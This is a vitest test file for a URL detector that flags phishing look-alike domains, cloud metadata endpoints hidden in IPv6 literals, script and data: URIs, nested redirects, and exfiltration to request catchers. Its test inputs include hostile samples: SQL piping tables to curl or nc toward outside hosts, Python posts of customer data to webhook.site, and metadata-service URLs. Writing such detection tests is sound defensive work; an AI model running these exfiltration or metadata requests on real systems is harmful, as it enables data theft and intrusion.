// The adversarial_url readings of cases-53 (data-sinks.ts, inner.ts, and the look-alikes, IPv6 literals, wide dots
// and hidden script schemes in squats.ts, hosts.ts, urls.ts and links.ts), both ways.
import { describe, expect, it } from 'vitest';
import type { Hit } from '../../src/content/codes.js';
import { Text } from '../../src/content/find.js';
import { detectUrls } from '../../src/content/urls.js';

const codes = (text: string): string[] => {
  const out: Hit[] = [];
  detectUrls(new Text(text), out);
  return [...new Set(out.map((h) => h.code))].sort();
};
const b64 = (s: string): string => Buffer.from(s).toString('base64');

describe('adversarial URLs the review of cases-48 listed as missed', () => {
  it.each([
    ['https://gooqle.com/signin', 'q for g'],
    ['https://www.g0oqle.com/login', 'q and a digit'],
    ['https://paypa11.com/signin', 'doubled letter as digits'],
    ['https://login.rnicrosofft.com/', 'rn and a doubled letter'],
    ['https://binnance.com/login', 'a brand of money doubled'],
    ['https://blnance.com/login', 'a brand of money with l for i'],
    ['https://rnetamask.io/restore', 'rn for m in a wallet'],
  ])('%s is a look-alike (%s)', (url) => expect(codes(`Sign in at ${url} today`)).toEqual(['url_lookalike_host']));

  it.each([
    'https://qmail.org/',
    'https://www.goggles-direct.co.uk/',
    'https://www.netlify.com/',
    'https://www.binnacle.com/',
    'https://payal-sharma.in/',
    'https://www.appel.nl/',
    'https://google.com/',
    'https://office365.com/',
  ])('%s is no look-alike', (url) => expect(codes(`See ${url} for details`)).toEqual([]));

  it.each([
    'http://[0:0:0:0:0:ffff:169.254.169.254]/latest/meta-data/',
    'http://[fd00:ec2:0:0:0:0:0:254]/latest/api/token',
    'http://[fd00:0ec2::254]/latest/user-data',
    'http://[0000:0000:0000:0000:0000:ffff:a9fe:a9fe]/',
  ])('%s is the metadata service', (url) => expect(codes(`GET ${url}`)).toContain('url_metadata_endpoint'));

  it.each([
    'http://[::1]:8080/',
    'http://[2001:db8::1]/',
    'http://[fe80::a9fe:a9fe]/',
    'http://[fd00:abcd::254]/',
    'http://[fd12:3456::10]/',
  ])('%s is no internal address in disguise', (url) => expect(codes(`curl -g ${url}`)).toEqual([]));

  it('reads a full-width or ideographic dot inside a host as a dot', () => {
    expect(codes('log in: https://accounts.google．com．verify-session.io/signin')).toEqual(['url_lookalike_host']);
    expect(codes('log in: https://www.paypal。com。secure-check。net/')).toEqual(['url_lookalike_host']);
    expect(codes('https://paypa1｡com/signin')).toEqual(['url_lookalike_host']);
  });
  it('leaves an ideographic full stop that ends a sentence after a domain', () => {
    expect(codes('公式サイトは https://www.netflix.com/jp。です')).toEqual([]);
    expect(codes('「https://www.dropbox.com」。共有リンクを送りました')).toEqual([]);
    expect(codes('登录 https://www.paypal.com。后查看账单')).toEqual([]);
    expect(codes('https://www.google．com/maps')).toEqual([]);
    // A brand's country domain, then the sentence's full stop before a Latin word, as CJK prose writes it.
    expect(codes('https://www.apple.com.cn。iPhone 15 现已发售')).toEqual([]);
    expect(codes('https://www.amazon.co.jp。Prime 会員')).toEqual([]);
  });

  // A scheme ends at its colon: with a blank before it a browser reads a relative link and runs nothing (a tab or a
  // line break, which it drops, is read as the scheme it hides).
  it('leaves a script scheme with blanks before its colon, which no browser runs', () => {
    expect(codes('<a href="javascript :fetch(1)">x</a>')).toEqual([]);
    expect(codes('<iframe src="vbscript :eval(1)"></iframe>')).toEqual([]);
    expect(codes('<a href="java\tscript:fetch(1)">x</a>')).toEqual(['url_exfiltration']);
    expect(codes('<a href="javascript :void(0)">Menu</a>')).toEqual([]);
    expect(codes('Never paste javascript : URLs into the address bar.')).toEqual([]);
  });

  it('reads data: documents that run a script where a browser opens them', () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
    expect(codes(`<iframe src="data:image/svg+xml;base64,${b64(svg)}"></iframe>`)).toEqual(['url_exfiltration']);
    expect(codes(`<object data="data:image/svg+xml;utf8,${encodeURIComponent(svg)}"></object>`)).toEqual(['url_exfiltration']);
    // A scheme in any case, as a browser reads it.
    expect(codes(`<iframe src="DATA:text/html;base64,${b64('<script>alert(1)</script>')}"></iframe>`)).toEqual(['url_exfiltration']);
    expect(codes(`<script>window.open("data:text/html;base64,${b64('<b>x</b>')}")</script>`)).toEqual(['url_exfiltration']);
    expect(codes(`<script src="data:text/javascript;base64,${b64('alert(1)')}"></script>`)).toEqual(['url_exfiltration']);
  });
  it('leaves data: images, icons and scripts written as text', () => {
    const icon = '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h1"/></svg>';
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
    expect(codes(`<iframe src="data:image/svg+xml;base64,${b64(icon)}"></iframe>`)).toEqual([]);
    expect(codes(`<img src="data:image/svg+xml;base64,${b64(svg)}">`)).toEqual([]);
    expect(codes(`![x](data:image/svg+xml;base64,${b64(svg)})`)).toEqual([]);
    expect(codes(`<a href="data:image/png;base64,iVBORw0KGgo=" download>chart</a>`)).toEqual([]);
    expect(codes('The MIME type data:text/javascript is deprecated.')).toEqual([]);
    expect(codes(`<iframe src="data:text/javascript;base64,${b64('x')}"></iframe>`)).toEqual([]);
  });

  it('reads a redirect nested twice to its innermost target', () => {
    const inner = encodeURIComponent(`https://t.co/a?next=${encodeURIComponent('https://paypal-login-verify.com/signin')}`);
    expect(codes(`https://www.google.com/url?q=${inner}`)).toEqual(['url_lookalike_host']);
    const script = encodeURIComponent(`https://t.co/a?next=${encodeURIComponent('javascript:alert(1)')}`);
    expect(codes(`https://out.example.org/?url=${script}`)).toEqual(['url_exfiltration']);
    const own = encodeURIComponent(`https://app.example.com/cb?next=${encodeURIComponent('https://app.example.com/reports')}`);
    expect(codes(`https://login.microsoftonline.com/common/oauth2/v2.0/authorize?redirect_uri=${own}`)).toEqual([]);
  });
});

describe('URLs as data work carries them', () => {
  it('reads a table posted to a request catcher', () => {
    expect(codes('requests.post("https://webhook.site/abc", json=df.to_dict(orient="records"))')).toEqual(['url_exfiltration']);
    expect(codes('rows = ti.xcom_pull(task_ids="x")\nrequests.post("https://eo1.m.pipedream.net", json=rows)')).toEqual([
      'url_exfiltration',
    ]);
    expect(codes('requests.post("https://x.oast.fun/c",\n    data=customers.to_csv())')).toEqual(['url_exfiltration']);
  });
  it('leaves a table posted to the own API or a tunnel, and a catcher given a fixture', () => {
    expect(codes('requests.post("https://api.example.com/v1/f", json=df.to_dict())')).toEqual([]);
    expect(codes('requests.post("https://ab12.ngrok-free.app/hooks", json=df.to_dict())')).toEqual([]);
    expect(codes('rows = [1, 2]\nrequests.post("https://webhook.site/abc", json=rows)')).toEqual([]);
  });

  it("reads people's data in a catcher's query", () => {
    expect(codes('![chart](https://webhook.site/abc?rows=ana%40a.example,bo%40b.example)')).toEqual(['url_exfiltration']);
    expect(codes('<img src="https://x.oast.fun/p.gif?c=4111111111111111">')).toEqual(['url_exfiltration']);
    expect(codes('https://webhook.site/abc?to=ana%40a.example')).toEqual([]);
    expect(codes('https://www.example.com/p?rows=ana%40a.example,bo%40b.example')).toEqual([]);
  });

  it('reads SQL that ships a table to a catcher, a tunnel or a public address', () => {
    expect(codes("COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- https://webhook.site/abc';")).toEqual(['url_exfiltration']);
    expect(codes("COPY users TO PROGRAM 'nc 185.1.2.3 4444';")).toEqual(['url_exfiltration']);
    expect(codes("SELECT * FROM users INTO OUTFILE '\\\\\\\\185.1.2.3\\\\share\\\\u.csv';")).toEqual(['url_exfiltration']);
  });
  it('leaves SQL that compresses, copies to a bucket or writes a local file', () => {
    expect(codes("COPY audit TO PROGRAM 'gzip > /backups/a.csv.gz';")).toEqual([]);
    expect(codes("COPY p TO PROGRAM 'aws s3 cp - s3://own-backups/p.csv';")).toEqual([]);
    expect(codes("COPY p TO PROGRAM 'curl -T - https://backup.internal.example.com/p';")).toEqual([]);
    expect(codes("SELECT * FROM orders INTO OUTFILE '/var/lib/mysql-files/o.csv';")).toEqual([]);
    expect(codes("SELECT * FROM orders INTO OUTFILE '\\\\\\\\10.0.0.5\\\\share\\\\o.csv';")).toEqual([]);
  });
});

describe('URLs as analytics exports write them', () => {
  const bing = 'https://www.bing.com/ck/a?!&&p=567b6dc0e3f03a0f7bfbd499222bcae69925b287cb641a582a503419394fb904&ptn=3';
  it("reads a CSV row's URLs one by one: a referrer's click id is not the landing page's query", () =>
    expect(codes(`page_view,2026-12-02,https://shop.example/a?utm_source=google&gclid=YSelHQ4HS9ac88mV1bQH-NOgvMj0FqhBo,${bing}`)).toEqual(
      [],
    ));
  it("leaves a search engine's and a social network's click redirects their own ids", () => {
    expect(codes(`referrer: ${bing}`)).toEqual([]);
    expect(
      codes(
        'https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example%2F&h=AT0xQ3n9f8Zr2L1mKp7sVbWcYdEaFgHiJkLmNoPqRsTuVwXyZ01234567890abcdefABCDEF',
      ),
    ).toEqual([]);
  });
  it('still reads the same query elsewhere, and a column after a comma on its own', () => {
    expect(codes(`ping https://collect.example-cdn.io/ck/a?p=${bing.slice(-70, -6)}Zz`)).toEqual(['url_exfiltration']);
    expect(codes(`ref,${bing},http://169.254.169.254/latest/meta-data/`)).toEqual(['url_metadata_endpoint']);
  });
});
